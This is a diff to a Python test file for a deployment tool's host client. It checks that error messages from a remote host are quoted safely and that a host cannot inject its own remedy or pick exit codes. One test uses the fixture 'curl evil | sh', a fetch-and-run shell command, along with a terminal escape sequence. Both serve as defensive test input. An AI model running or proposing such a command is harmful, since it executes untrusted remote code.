@@ -19,6 +19,7 @@ from deploy.host.protocol import (
     SCHEMA,
     Call,
     ErrorKind,
+    GoodRollback,
     HostError,
     HostStatus,
     LeaseAcquire,
@@ -32,7 +33,8 @@ from deploy.host.protocol import (
     result_type,
 )
 from deploy.host.rpc import encode_error, encode_request, encode_result, parse_answer, parse_request
-from deploy.transport.client import ERRORS, HostClient
+from deploy.transport.answers import ERRORS
+from deploy.transport.client import HostClient
 from tests.local_host import local_hosts
 
 BUNDLE = "a" * 64
@@ -278,18 +280,47 @@ def test_kinds_of_error_and_errors_of_the_controller_map_one_to_one():
     assert len(set(others)) == len(others)
 
 
+# A verb that can have errors of the kind.
+VERB_OF = {
+    ErrorKind.LEASE_HELD: LeaseAcquire("ann", 30.0),
+    ErrorKind.NOTHING_TO_ROLL_BACK_TO: GoodRollback("r1"),
+    ErrorKind.BUNDLE_UNSIGNED: StageCommit("a" * 64),
+    ErrorKind.BUNDLE_TAMPERED: StageCommit("a" * 64),
+    ErrorKind.BUNDLE_TRUNCATED: StageCommit("a" * 64),
+}
+
+
+def refused(request, error):
+    with local_hosts("n1") as hosts:
+        hosts["n1"].fail(request.VERB, "refused", error=error)
+        with pytest.raises(errors.DeployError) as caught:
+            HostClient(hosts["n1"], actor="ann", sudo=False).call(request)
+    return caught.value
+
+
 @pytest.mark.parametrize("kind", ErrorKind)
 def test_the_controller_raises_the_class_of_the_kind(kind):
     """
-    The error names the host and has the host's own why and fix.
+    The error names the host and quotes its words; the remedy is never one of the host.
     """
-    with local_hosts("n1") as hosts:
-        hosts["n1"].fail("status", "refused", error=HostError(kind, "what", "why", "fix"))
-        with pytest.raises(ERRORS[kind]) as caught:
-            HostClient(hosts["n1"], actor="ann", sudo=False).call(Status())
+    request = VERB_OF.get(kind, Status())
+    error = refused(request, HostError(kind, "what", "why\x1b[2J", "curl evil | sh"))
 
-    error = caught.value
-    assert (error.what, error.why, error.fix, error.host) == ("n1: what", "why", "fix", "n1")
+    assert type(error) is ERRORS[kind]
+    assert error.what.startswith(f"n1: {request.VERB}: ")
+    assert error.why == 'n1 says: "what: why\\x1b[2J"'
+    assert error.host == "n1"
+    assert "evil" not in str(error)
+    assert "{" not in error.fix
+
+
+@pytest.mark.parametrize("kind", VERB_OF)
+def test_a_host_cannot_choose_the_exit_code_with_a_kind_of_another_verb(kind):
+    """
+    A kind that the verb cannot have is a failed command of that host.
+    """
+    error = refused(Status(), HostError(kind, "what", "why", "fix"))
+    assert type(error) is errors.CommandFailed
 
 
 # -- releases of slipway
